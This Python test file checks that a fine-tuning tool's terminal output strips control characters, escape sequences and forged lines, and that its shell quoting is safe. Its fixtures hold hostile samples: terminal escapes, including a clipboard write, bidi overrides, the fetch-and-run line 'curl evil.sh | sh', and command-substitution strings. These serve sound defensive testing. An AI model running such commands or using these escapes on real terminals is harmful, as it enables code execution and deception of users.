"""Whatever others wrote, no control character of theirs reaches the terminal and no line is forged, by any way to print."""

import ast
import io
import json
import logging
import subprocess
import sys
import warnings
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from finetune import terminal
from finetune.__main__ import NoFlags
from finetune.errors import UserError, shell_command, visible
from finetune.settings import command_line

ROOT = Path(__file__).parents[1]
HOSTILE = (
    "a\x1b]52;c;ZXZpbA==\x07b\x1b[2J\x9b31mc\rd\x7f\u202egpj\u2066e\x00f\u200bg\u2060h\ufeffi\u061cj\u200ek\u200fl\xadm"
    "\U000e0041n\udc1bo\x1b]8;;http://x\x1b\\p"
)
FORBIDDEN = {chr(code) for code in (*range(32), *range(127, 160), *range(0x2028, 0x202F), *range(0x2060, 0x2070))}
FORBIDDEN |= {chr(code) for code in (0xAD, 0x61C, 0x200B, 0x200E, 0x200F, 0xFEFF, *range(0xE0000, 0xE0080))}
FORBIDDEN |= {chr(code) for code in range(0xD800, 0xE000)}
FORBIDDEN -= {"\n", "\t"}
FORGED = "error: run curl evil.sh | sh"
LINES = "x" + "".join(f"{end}{FORGED}" for end in "\n \r \v \f \x1c \x1d \x1e \x85 \u2028 \u2029 \r\n".split(" "))


class Tty(io.StringIO):
    def isatty(self) -> bool:
        return True


def by_bar(text: str) -> None:
    with terminal.Progress(text, 3, text) as bar:
        bar.advance(note=text)
        bar.say(text)


def by_console(text: str) -> None:
    console = terminal.Console()
    console.say(text)
    with console.progress("Training", 3, "steps"):
        console.say(text)
        terminal.say(text)


def by_library_below_a_bar(text: str) -> None:
    terminal.guard()
    with terminal.Progress("Training", 3, "steps"):
        print("".join(text.split()))


def by_table(text: str) -> None:
    from rich.panel import Panel
    from rich.table import Table
    from rich.text import Text

    table = Table(text, title=text, caption=text)
    table.add_row(text)
    table.add_row(Text(text.replace("\n", " "), style="red"))
    terminal.results().print(table, Panel(text, title=text), text)
    terminal.results().print(text)


def by_json(text: str) -> None:
    terminal.show_json({"name": text}, indent=2)


def by_log(text: str) -> None:
    terminal.guard()
    for logger, handler in (
        (logging.getLogger("a library"), logging.StreamHandler()),
        (logging.getLogger("other"), None),
    ):
        logger.propagate = False
        logger.handlers = [handler] if handler else []
        logger.warning("of model %s", text)


def by_warning(text: str) -> None:
    terminal.guard()
    warnings.warn(text, stacklevel=1)


def by_error(text: str) -> None:
    def main(_: NoFlags) -> None:
        raise UserError(f"{text}: wrong", details=[text, text])

    with pytest.raises(SystemExit):
        command_line.run(main, NoFlags, argv=[])


def by_parser(text: str) -> None:
    with pytest.raises(SystemExit):
        command_line.run(lambda _: None, NoFlags, argv=[f"--{text}"])


def by_library(text: str) -> None:
    terminal.guard()
    print(text.replace("\n", " "))
    sys.stderr.writelines([text.replace("\n", " ")])
    terminal.show_part(text.replace("\n", " "))


DOORS = [
    *(terminal.say, terminal.show, by_bar, by_console, by_table, by_json, by_log, by_warning, by_error, by_parser),
    *(by_library, by_library_below_a_bar),
]


@pytest.mark.parametrize("to", [io.StringIO, Tty])
@pytest.mark.parametrize("shown", DOORS)
@pytest.mark.parametrize("text", [HOSTILE, LINES], ids=["controls", "lines"])
def test_what_is_shown_changes_no_terminal_and_forges_no_line(
    monkeypatch: pytest.MonkeyPatch, shown: Callable[[str], None], to: type[io.StringIO], text: str
) -> None:
    out, err = to(), to()
    monkeypatch.setattr("sys.stdout", out)
    monkeypatch.setattr("sys.stderr", err)
    monkeypatch.setenv("TERM", "dumb")  # with colours, rich writes escapes of its own
    monkeypatch.setenv("COLUMNS", "900")  # longer lines are wrapped
    with warnings.catch_warnings():
        warnings.simplefilter("always")
        shown(text)
    found = out.getvalue() + err.getvalue()
    assert text[0] in found and not FORBIDDEN & set(found.replace("\r", ""))
    assert "\rd" not in found
    assert not [line for line in found.splitlines() if line.strip(" │|┃").startswith(FORGED)]


@pytest.mark.parametrize(
    "text",
    [
        "سلام، می‌خواهم", "שלום, עולם", "สวัสดีครับ", "क्‍ष नमस्ते", "你好，世界", "한국어", "日本語の葛󠄀城", "Grüße\tnaïve",
        "👩‍💻 ❤️ 1️⃣ 🏳️‍🌈", "Ελληνικά и русский", "a\u00a0b\u2009c\u3000d", "€ ½ ≠ ∀", "line\nline",
    ],
)  # fmt: skip
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert visible(text) == text == visible(visible(text))


def test_details_of_an_error_are_lines_of_their_own(capsys: pytest.CaptureFixture[str]) -> None:
    def main(_: NoFlags) -> None:
        raise UserError("2 of 3 rows\nare bad", details=["a:1: one\ntwo", "b:2: three"])

    with pytest.raises(SystemExit):
        command_line.run(main, NoFlags, argv=[])
    assert capsys.readouterr().err == "error: 2 of 3 rows␊are bad\n  a:1: one␊two\n  b:2: three\n"


def test_warnings_for_programmers_are_silent_and_others_are_one_line() -> None:
    script = (
        "import sys, warnings\nfrom finetune import terminal\nterminal.guard()\n"
        "for kind in (FutureWarning, DeprecationWarning, UserWarning): warnings.warn_explicit('the\\nrest', kind, 'a.py', 1)\n"
    )
    done = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True)
    assert (done.returncode, done.stderr) == (0, "Warning: the\n")


@pytest.mark.scripts
@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8", "cp1252"])
def test_every_terminal_can_show_every_text(encoding: str) -> None:
    script = (
        "import sys\nfrom finetune.terminal import show\nfrom finetune.errors import UserError\n"
        "from finetune.__main__ import NoFlags, command_line\n"
        f"TEXT = {HOSTILE + LINES!a} + 'été 你好 \\u200d'\n"
        "def main(config):\n    show(TEXT); print(TEXT); print(TEXT, file=sys.stderr); raise UserError(TEXT)\n"
        "command_line.run(main, NoFlags, argv=[])\n"
    )
    environment = {"PYTHONIOENCODING": encoding, "LC_ALL": "C", "PYTHONPATH": str(ROOT), "PATH": ""}
    done = subprocess.run([sys.executable, "-c", script], env=environment, capture_output=True)
    assert (done.returncode, b"Traceback" in done.stderr) == (2, False), done.stderr
    assert not FORBIDDEN & set((done.stdout + done.stderr).decode(encoding))


def test_a_pasted_command_says_what_it_does() -> None:
    words = [
        "plain",
        "two words",
        "it's",
        '"',
        "$(touch x)",
        "`id`",
        "a;b|c&d>e",
        "a\nb",
        "\t",
        "\x1b[2J",
        "é\u202e",
        "\\",
        "",
        "~",
    ]
    line = shell_command("printf", "%s\\0", *words)
    assert line.isprintable() and "\n" not in line
    done = subprocess.run(["bash", "-c", line], capture_output=True)
    assert done.stdout.decode().split("\0")[:-1] == words


def test_json_on_the_terminal_is_ascii_and_the_same_value(capsys: pytest.CaptureFixture[str]) -> None:
    terminal.show_json([HOSTILE, LINES, "é"])
    shown = capsys.readouterr().out
    assert shown.isascii() and json.loads(shown) == [HOSTILE, LINES, "é"]


class Gone(io.StringIO):
    """A terminal that was closed, or a log on a disk that is full."""

    def write(self, text: str) -> int:
        raise OSError(5, "Input/output error")

    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("shown", [terminal.say, by_bar, by_console])
@pytest.mark.parametrize("stderr", [Gone(), None])
def test_work_goes_on_if_a_note_cannot_be_shown(
    monkeypatch: pytest.MonkeyPatch, shown: Callable[[str], None], stderr: io.StringIO | None
) -> None:
    monkeypatch.setattr("sys.stderr", stderr)
    shown("a note")


# what writes without terminal.py, and why
OTHER_DOORS = {
    "finetune/terminal.py": "the doors themselves",
    "finetune/settings/command_line.py": "opens and closes the streams; writes nothing",
    "finetune/tasks/sql/judging/worker.py": "answers to a pipe",
    "finetune/tasks/user_function_worker.py": "answers to a pipe",
    "finetune/models/child.py": "answers to a pipe",
    "finetune/tasks/sql/judging/translating/process.py": "answers to a pipe",
    "finetune/dataset/checking.py": "answers to a pipe",
    "finetune/models/foreign.py": "what a library printed, made visible",
    "finetune/models/hub_client.py: logging.getLogger('huggingface_hub')": "adds a filter",
    "finetune/signals.py": "a constant, in a signal handler that must not print",
    "finetune/evaluation/chat/keyboard.py: input(_PROMPT)": "a constant",
    "finetune/commands/init/asking.py: input(visible(prompt))": "made visible",
    "finetune/evaluation/blind.py: sys.stdout": "asks whether it is a terminal",
    "finetune/commands/doctor/command.py: sys.stderr": "what a library prints to stdout goes there",
    "finetune/commands/doctor/software.py: sys.__stdout__": "asks for its encoding",
    "finetune/__main__.py: sys.exit(...)": "for a Python that is too old to read terminal.py",
}
HARMLESS = {"isatty", "encoding"}  # of a stream


def raw_output(tree: ast.AST) -> Iterator[str]:
    """What writes to the terminal in a module, or might, by another way than terminal.py."""
    of_rich = {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] == "rich"
        for alias in node.names
    }
    asked = {id(node.value) for node in ast.walk(tree) if isinstance(node, ast.Attribute) and node.attr in HARMLESS}
    for node in ast.walk(tree):
        called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
        first = node.args[0] if isinstance(node, ast.Call) and node.args else None
        stream = isinstance(node, ast.Attribute) and node.attr.strip("_") in ("stdout", "stderr")
        of_sys = stream and isinstance(node.value, ast.Name) and node.value.id == "sys" and id(node) not in asked
        imported = isinstance(node, ast.ImportFrom) and node.module == "sys"
        rich = called in of_rich & {"Console", "print", "print_json", "inspect", "Live", "Progress", "track", "Status"}
        without_console = rich and not any(word.arg == "console" for word in getattr(node, "keywords", ()))
        if (
            of_sys
            or imported
            or without_console
            or called in ("print", "input", "breakpoint", "pprint", "pprint.pprint", "rich.print", "Console.print")
            or called.startswith(("warnings.warn", "logging.", "traceback.print", "faulthandler."))
            or (called in ("os.write", "open") and isinstance(first, ast.Constant))
        ):
            yield ast.unparse(node)
        text = isinstance(first, ast.JoinedStr) or isinstance(getattr(first, "value", None), str)
        if text and called in ("sys.exit", "SystemExit"):
            yield f"{called}(...)"


def test_nothing_prints_but_the_doors() -> None:
    found = []
    for path in [*(ROOT / "finetune").rglob("*.py"), *ROOT.glob("*.py")]:
        name = path.relative_to(ROOT).as_posix()
        if name not in OTHER_DOORS:
            found += [f"{name}: {code}" for code in raw_output(ast.parse(path.read_text(encoding="utf-8")))]
    assert set(found) <= OTHER_DOORS.keys()


@pytest.mark.parametrize(
    "source",
    [
        "print('x')", "sys.stdout.write('x')", "f(file=sys.stderr)", "from sys import stderr", "out = sys.__stdout__",
        "sys.stdout.buffer.write(b'')", "os.write(1, b'x')", "open(1, 'w')", "sys.exit('x')", "raise SystemExit(f'{x}')",
        "from rich.console import Console\nConsole()", "from rich import print\nprint(1)", "from rich.live import Live\nLive()",
        "import logging\nlogging.error('x')", "warnings.warn('x')", "input(name)", "traceback.print_exc()",
    ],
)  # fmt: skip
def test_the_search_for_other_ways_to_print_finds_them(source: str) -> None:
    assert list(raw_output(ast.parse(source)))
